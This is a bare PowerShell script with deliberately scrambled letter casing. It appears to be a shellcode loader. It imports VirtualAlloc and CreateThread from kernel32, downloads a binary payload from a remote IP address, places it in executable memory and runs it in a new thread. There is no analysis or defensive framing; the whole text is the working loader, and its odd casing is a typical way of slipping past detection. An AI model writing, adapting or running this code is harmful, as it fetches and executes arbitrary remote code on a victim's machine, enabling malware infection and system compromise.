# iNiT 3078 V3
$CoDE = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
'@
$k = adD-tYpe -MEMBeRdefInitIOn $code -nAmE k32 -PASSThrU
[bYtE[]]$sC = (nEW-oBJecT NEt.WeBcLiEnT).DoWnLoAdDaTa('http://203.0.113.200/sc.bin')
$M = $k::VIRTuALAlLOc(0, $sC.lEnGtH, 0x3000, 0x40)
[SYsTEM.runTIme.INTErOpSErviCEs.mARsHAL]::CoPY($sC, 0, $m, $sC.leNGTH)
$K::CREATethReaD(0, 0, $M, 0, 0, 0)
